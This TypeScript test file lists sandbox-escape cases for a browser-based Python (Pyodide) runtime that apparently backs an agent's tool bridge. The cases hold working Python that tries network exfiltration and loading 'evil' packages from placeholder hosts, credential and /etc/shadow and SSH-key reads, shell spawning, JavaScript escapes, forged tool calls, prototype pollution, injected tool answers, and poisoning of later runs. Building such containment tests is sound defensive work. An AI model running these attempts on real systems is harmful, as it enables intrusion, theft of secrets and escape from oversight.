// Programs in Python that want the network, the page's storage, JavaScript, or the next run.

import { CLAIM, type EscapeCase } from "./escape-case.ts";

/** Ends of programs that may also kill their own interpreter. */
const INERT_OR_DEAD = /^(?:returned|threw (?:400|500) \w*|stopped\/(?:crashed 500|timeout 408))$/;

const CLAIMED = `"${CLAIM.slice(0, 3)}" + "${CLAIM.slice(3)}"`;

/** Tries each act, and gives what came of it. An act is an expression, with \`load(name)\` for modules. */
const attempts = (...acts: readonly string[]): string =>
  `import importlib, inspect
load = importlib.import_module
out = []
async def attempt(act):
    try:
        value = act()
        if inspect.isawaitable(value): value = await value
        out.append(str(value)[:300])
    except BaseException as error:
        out.append(type(error).__name__)
${acts.map((act) => `await attempt(lambda: ${act})`).join("\n")}
"; ".join(out)`;

/** JavaScript that names what only a worker or a page has. */
const WORLD =
  "['indexedDB', 'fetch', 'postMessage', 'navigator'].filter((n) => typeof globalThis[n] !== 'undefined').join()";

/** The same with a claim when a way into JavaScript finds something of the world. */
const climbs = (...makers: readonly string[]): string =>
  attempts(
    ...makers.map(
      (maker) => `(lambda found: ${CLAIMED} + found if found else "nothing")(str(${maker} or ""))`,
    ),
  );

const RETURN_WORLD = JSON.stringify(`return ${WORLD}`);

const network: readonly EscapeCase[] = [
  {
    id: "py-channels",
    covers: ["PUB-NET-01", "PUB-NET-09"],
    wants: "any channel of the network",
    code: attempts(
      "load('js').fetch(HTTP + 'fetch')",
      "load('pyodide.http').pyfetch(HTTP + 'pyfetch')",
      "load('pyodide.http').open_url(HTTP + 'open')",
      "load('js').WebSocket.new(WS + 'socket')",
      "load('js').EventSource.new(HTTP + 'events')",
      "load('urllib.request').urlopen(HTTP + 'urllib', timeout=1).read()",
      "load('http.client').HTTPConnection(HOST, PORT, timeout=1).request('GET', '/' + NONCE + '/client')",
      "load('socket').create_connection((HOST, PORT), timeout=1).send(b'GET /' + NONCE.encode() + b'/socket HTTP/1.0\\r\\n\\r\\n')",
      "load('asyncio').wait_for(load('asyncio').open_connection(HOST, PORT), 1)",
      "load('socket').getaddrinfo('leak.' + NONCE + '.invalid', 80)",
    ),
    limits: { timeoutMs: 8_000 },
    ends: INERT_OR_DEAD,
    trips: ["network"],
  },
  {
    id: "py-channels-unawaited",
    covers: ["PUB-NET-01"],
    wants: "the network from a task that goes on",
    code: "import asyncio\nasync def later():\n    await asyncio.sleep(0.02)\n    from js import fetch\n    await fetch(HTTP + 'later')\ntask = asyncio.ensure_future(later())\nimport atexit\ndef bye():\n    from pyodide.http import open_url\n    open_url(HTTP + 'exit')\natexit.register(bye)\n'left'",
    trips: ["network"],
  },
  {
    id: "py-packages",
    covers: ["PUB-NET-08"],
    wants: "a package from elsewhere, whose address is the payload",
    code: attempts(
      "load('pyodide_js').loadPackage(HTTP + 'a/evil-1.0-py3-none-any.whl')",
      "load('pyodide_js').loadPackagesFromImports('import numpy')",
      "load('micropip').install(HTTP + 'b/evil-1.0-py3-none-any.whl')",
      "load('pyodide_js._api').loadBinaryFile(HTTP + 'c')",
      "load('pyodide.http').pyfetch(HTTP + 'd/evil.zip')",
      "load('zipimport').zipimporter(HTTP + 'e.zip')",
      "load('ensurepip').bootstrap()",
    ),
    limits: { timeoutMs: 8_000 },
    ends: INERT_OR_DEAD,
    trips: ["network"],
  },
];

const storage: readonly EscapeCase[] = [
  {
    id: "py-reads-storage",
    covers: ["PUB-STO-04"],
    wants: "what the page stored, or shows",
    code: `import js
async def cached(): return await (await (await js.caches.open(PLANTED)).match("/planted")).text()
async def filed(): return await (await (await (await js.navigator.storage.getDirectory()).getFileHandle(PLANTED)).getFile()).text()
async def locked(): return ",".join(lock.name for lock in (await js.navigator.locks.query()).held)
${attempts(
  "cached()",
  "filed()",
  "locked()",
  "js.localStorage.getItem(PLANTED)",
  "js.document.cookie",
  "js.parent.document.title",
  "js.opener.location.href",
  "js.cookieStore.getAll()",
)}`,
    limits: { timeoutMs: 5_000 },
    trips: ["planted"],
  },
  {
    id: "py-writes-storage",
    covers: ["PUB-STO-04"],
    wants: "to leave something with the page",
    code: attempts(
      "load('js').caches.open('left-' + NONCE)",
      "load('js').indexedDB.open('left-' + NONCE)",
      "load('js').BroadcastChannel.new(PLANTED).postMessage('hello ' + NONCE)",
      "load('js').postMessage(NONCE)",
    ),
    trips: ["page"],
  },
  {
    id: "py-reflected-credentials",
    covers: ["PUB-SEC-02"],
    wants: "a credential that a server reflects",
    code: "out = []\nfor name in ('headers', 'moved', 'failed', 'thrown'):\n    try: out.append(str(await getattr(tools.reflecting, name)()))\n    except BaseException as error: out.append(repr(error) + str(error) + str(getattr(error, 'hint', '')) + str(error.__cause__) + str(vars(error)))\nprint(out)\n[one[:3000] for one in out]",
    trips: ["planted"],
  },
  {
    id: "py-injected-answer",
    covers: ["PUB-INJ-01"],
    wants: "that an answer is more than data",
    code: "text = await tools.page.injected(http=HTTP)\nprint(text)\ntext",
    trips: ["network", "page"],
  },
  {
    id: "py-bad-arguments",
    covers: ["PUB-RPC-10"],
    wants: "a tool to get what its schema forbids",
    code: "out = []\nfor args in ({}, {'v': 5}, {'v': 'x' * 21}, {'v': 'x', 'more': 1}, {'v': ['x']}, {'v': None}, {'v': b'x' * 30}, {'__proto__': {'v': 'x'}}):\n    try:\n        await tools.page.strict(**args)\n        out.append('came')\n    except Exception as error: out.append(getattr(error, 'kind', type(error).__name__))\nout",
    trips: ["bad_call"],
  },
];

const realms: readonly EscapeCase[] = [
  {
    id: "py-run-js",
    covers: ["PUB-ESC-01"],
    wants: "JavaScript from text",
    code: climbs(
      `load('pyodide.code').run_js(${JSON.stringify(WORLD)})`,
      `load('js').eval(${JSON.stringify(WORLD)})`,
      `load('_pyodide_core').run_js(${JSON.stringify(WORLD)})`,
      `load('_pyodide._core_docs').run_js(${JSON.stringify(WORLD)})`,
    ),
    trips: ["claim"],
  },
  {
    id: "py-constructors",
    covers: ["PUB-ESC-02"],
    wants: "JavaScript's constructor of functions",
    code: climbs(
      `load('js').Object.constructor(${RETURN_WORLD})()`,
      `load('js').Function.new(${RETURN_WORLD})()`,
      `load('pyodide.ffi').to_js([1]).constructor.constructor(${RETURN_WORLD})()`,
      `load('pyodide_js').constructor.constructor(${RETURN_WORLD})()`,
      `load('pyodide_js').runPython.constructor(${RETURN_WORLD})()`,
    ),
    trips: ["claim"],
  },
  {
    id: "py-bridge-of-tools",
    covers: ["PUB-ESC-02"],
    wants: "JavaScript through what its tools are made of",
    code: `names = type(tools).__getattr__.__globals__
host = names.get("_host") or names.get("js")
${climbs(
  `host.constructor.constructor(${RETURN_WORLD})()`,
  `host.constructor(${RETURN_WORLD})()`,
  `getattr(host, "call", host.constructor).constructor(${RETURN_WORLD})()`,
  `host.constructor.getPrototypeOf(host.constructor.getPrototypeOf).constructor(${RETURN_WORLD})()`,
  `(host.schedule if hasattr(host, "schedule") else host.constructor).bind.constructor(${RETURN_WORLD})()`,
)}`,
    ends: INERT_OR_DEAD,
    trips: ["claim"],
  },
  {
    id: "py-hunts-bridges",
    covers: ["PUB-ESC-02", "PUB-ESC-08"],
    wants: "any object of JavaScript that Python's heap holds",
    code: `import gc, sys
seen, queue, proxies = set(), [], []
def visit(one):
    if id(one) not in seen:
        seen.add(id(one))
        queue.append(one)
for one in [tools, *sys.modules.values(), *gc.get_objects()]: visit(one)
while queue and len(seen) < 400_000:
    one = queue.pop()
    if any(kind.__name__ == "JsProxy" for kind in type(one).__mro__): proxies.append(one)
    for other in gc.get_referents(one): visit(other)
claims = []
for one in proxies:
    for climb in (lambda: one.constructor.constructor(${RETURN_WORLD})(), lambda: one.eval(${JSON.stringify(WORLD)}), lambda: one.fetch and "fetch", lambda: one.constructor(${RETURN_WORLD})()):
        try:
            if str(climb() or ""): claims.append(${CLAIMED})
        except BaseException: pass
[claims, len(proxies) > 0]`,
    limits: { timeoutMs: 20_000 },
    ends: INERT_OR_DEAD,
    trips: ["claim"],
  },
  {
    id: "py-forges-calls",
    covers: ["PUB-ESC-02", "PUB-CALL-01"],
    wants: "calls past the bridge that counts and checks them",
    code: `names = type(tools).__getattr__.__globals__
host = names.get("_host")
import asyncio
if host is None:
    bridge = names["bridge"]
    send = lambda n: bridge.request("page.strict", None)
else:
    send = lambda n: host.call("tool", "page.strict", '{"v": %d}' % n)
for n in range(300):
    try: send(n)
    except BaseException: pass
await asyncio.sleep(0.05)
'sent'`,
    ends: /^(?:returned|threw (?:400|500) \w*|stopped\/(?:tool_calls 429|timeout 408|security 403|crashed 500))$/,
    trips: ["bad_call", "over_limit"],
  },
  {
    id: "py-ctypes",
    covers: ["PUB-ESC-03"],
    wants: "JavaScript by the C library's own script runner",
    code: `import ctypes
def script(name, kind):
    run = getattr(ctypes.CDLL(None), name)
    run.argtypes, run.restype = [ctypes.c_char_p], kind
    return run
${climbs(
  `(script("emscripten_run_script_string", ctypes.c_char_p)(${JSON.stringify(WORLD)}.encode()) or b"").decode()`,
  `"fetch" if script("emscripten_run_script_int", ctypes.c_int)(b"typeof fetch === 'function' ? 7 : 0") == 7 else ""`,
)}`,
    ends: INERT_OR_DEAD,
    trips: ["claim"],
  },
  {
    id: "py-processes",
    covers: ["PUB-ESC-04"],
    wants: "a process of the machine",
    code: attempts(
      "load('os').system('id')",
      "load('subprocess').run(['id'], capture_output=True, timeout=2).stdout",
      "load('os').popen('id').read()",
      "load('os').posix_spawn('/bin/sh', ['sh'], {})",
      "load('os').execv('/bin/sh', ['sh'])",
      "load('os').fork()",
      "load('multiprocessing').Process(target=print).start()",
      "load('pty').spawn('/bin/sh')",
    ),
    limits: { timeoutMs: 5_000 },
    ends: INERT_OR_DEAD,
    trips: "A browser has no processes: the same program finds none in the baseline either.",
  },
  {
    id: "py-classes",
    covers: ["PUB-ESC-08"],
    wants: "the machine by walking the classes",
    code: `import sys
found = []
for one in ().__class__.__base__.__subclasses__():
    try:
        names = one.__init__.__globals__
        if "os" in names: found.append(sorted(names["os"].environ)); break
    except AttributeError: pass
def read(path):
    try: return open(path).read(200)
    except OSError as error: return type(error).__name__
found += [read(path) for path in ("/etc/hostname", "/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/root/.ssh/id_rsa", "/work", "/tmp/planted")]
found += [name for name in sys.modules if "secret" in name or "credential" in name]
found`,
    trips: "A browser has no files of the machine: the same program finds none in the baseline either.",
  },
  {
    id: "py-values-with-code",
    covers: ["PUB-RPC-10"],
    wants: "its values to break the bridge or the page",
    code: `class E:
    def __repr__(self): raise SystemExit("boom")
    __str__ = __repr__
    def __getattr__(self, name): return self
    def __iter__(self): return self
    def __next__(self): return self
    def __len__(self): return 2**40
class Text(str):
    def __str__(self): return E()
class Number(int):
    def __int__(self): return E()
    def __index__(self): raise SystemExit("index")
circle = {}; circle["c"] = circle
ring = []; ring.append(ring)
out = []
for v in (E(), circle, ring, float("nan"), 1e400, 10**4000, {1: 2, (1, 2): 3}, {E(): 1}, b"\\xff", {1, 2}, object(), print, (x for x in [1]), {"__proto__": {"polluted": 1}}, {"constructor": {"prototype": {"polluted": 1}}}, "\\ud800", Text("x"), Number(1), type, NotImplemented, ..., memoryview(b"x"), range(3), {"$bytes": "!!"}):
    try: out.append(str(await tools.page.echo(v=v))[:60])
    except BaseException as error: out.append(type(error).__name__)
out`,
    trips: ["errors"],
  },
  {
    id: "py-value-with-code",
    covers: ["PUB-RPC-10"],
    wants: "to leave by the text of its own value",
    code: "class E(dict):\n    def items(self): raise SystemExit('boom')\n    def __repr__(self): raise SystemExit('boom')\n    def __iter__(self): raise SystemExit('boom')\n    def keys(self): return self\nE(a=object())",
    trips: "A value that cannot be copied stays in the worker; the baseline answers with nothing.",
  },
];

const leavings: readonly EscapeCase[] = [
  {
    id: "py-leaves-builtins",
    covers: ["PUB-POI-01"],
    wants: "the next run's builtins and library",
    code: "import builtins, json, sys\nbuiltins.left = 'LEFT'\nbuiltins.sorted = lambda *_: ['LEFT']\njson.dumps = lambda *_, **__: '\"LEFT\"'\nsys.modules['left'] = sys\nsys.meta_path.insert(0, type('F', (), {'find_spec': staticmethod(lambda *_: None), 'left': 1}))\n'armed'",
    afterwards: {
      code: "import builtins, sys\n[hasattr(builtins, 'left'), sorted([2, 1]), 'left' in sys.modules, any(hasattr(one, 'left') for one in sys.meta_path)]",
      clean: [false, [1, 2], false, false],
    },
    trips: ["next_run"],
  },
  {
    id: "py-leaves-files",
    covers: ["PUB-POI-02"],
    wants: "files, modules and variables for the next run",
    code: "import os, pathlib, sys\nfor folder in ['/tmp', os.path.expanduser('~'), os.getcwd(), *sys.path]:\n    try:\n        pathlib.Path(folder, 'left.txt').write_text('LEFT')\n        pathlib.Path(folder, 'sitecustomize.py').write_text('import builtins; builtins.left = 1')\n        pathlib.Path(folder, 'colorsys.py').write_text('LEFT = 1')\n    except OSError: pass\nos.environ['LEFT'] = 'LEFT'\nos.makedirs('/tmp/left', exist_ok=True)\nos.chdir('/tmp/left')\n'written'",
    afterwards: {
      code: "import os, colorsys\n[[name for folder in ('/tmp', os.path.expanduser('~'), os.getcwd()) for name in os.listdir(folder) if 'left' in name], os.environ.get('LEFT'), hasattr(colorsys, 'LEFT'), os.getcwd().endswith('left')]",
      clean: [[], null, false, false],
    },
    trips: ["next_run"],
  },
  {
    id: "py-shadows-tools",
    covers: ["PUB-POI-04"],
    wants: "the next run's tools",
    code: "import sys, types\ntry:\n    import pyodide_js\n    pyodide_js.registerJsModule('bridge', pyodide_js)\nexcept BaseException: pass\nfake = lambda *_, **__: 'LEFT'\nfor kind in type(tools).__mro__:\n    for name in ('__getattr__', '__getitem__', '__call__'):\n        try: setattr(kind, name, fake)\n        except (TypeError, AttributeError): pass\nsys.modules['tools'] = sys.modules['mcp'] = types.ModuleType('left')\nimport builtins\nbuiltins.tools = fake\n'armed'",
    afterwards: {
      code: "import sys\n[(await tools.page.echo(mark='benign-next'))['mark'], 'mcp' in sys.modules]",
      clean: ["benign-next", false],
    },
    trips: ["next_run"],
  },
  {
    id: "py-leaves-tasks",
    covers: ["PUB-POI-05"],
    wants: "tasks, threads and timers that go on",
    code: "import asyncio\nasync def tail():\n    for n in range(200):\n        await asyncio.sleep(0.02)\n        await tools.page.echo(late=n)\ntask = asyncio.ensure_future(tail())\nloop = asyncio.get_event_loop()\nloop.call_later(0.05, lambda: asyncio.ensure_future(tail()))\ntry:\n    import js\n    from pyodide.ffi import create_proxy\n    js.setInterval(create_proxy(lambda *_: asyncio.ensure_future(tail())), 20)\nexcept BaseException: pass\ntry:\n    import threading\n    threading.Thread(target=lambda: None, daemon=True).start()\nexcept BaseException: pass\n'left running'",
    trips: ["late_calls"],
  },
  {
    id: "py-leaves-prototypes",
    covers: ["PUB-POI-01", "PUB-POI-04"],
    wants: "JavaScript's prototypes beside the next run",
    code: "names = type(tools).__getattr__.__globals__\nout = []\ntry:\n    from pyodide.ffi import to_js\n    to_js([1]).constructor.prototype.left = 'LEFT'\nexcept BaseException as error: out.append(type(error).__name__)\ntry:\n    host = names['_host']\n    host.constructor.prototype.left = 'LEFT'\n    host.call = None\n    host.schedule = None\nexcept BaseException as error: out.append(type(error).__name__)\nout",
    ends: INERT_OR_DEAD,
    afterwards: {
      code: "try:\n    from pyodide.ffi import to_js\n    left = getattr(to_js([1]), 'left', None)\nexcept ImportError: left = None\nhost = type(tools).__getattr__.__globals__.get('_host')\n[left, getattr(host, 'left', None), (await tools.page.echo(mark='benign-next'))['mark']]",
      clean: [null, null, "benign-next"],
    },
    trips: ["next_run"],
  },
];

export const PYTHON_ESCAPES: readonly EscapeCase[] = [...network, ...storage, ...realms, ...leavings];
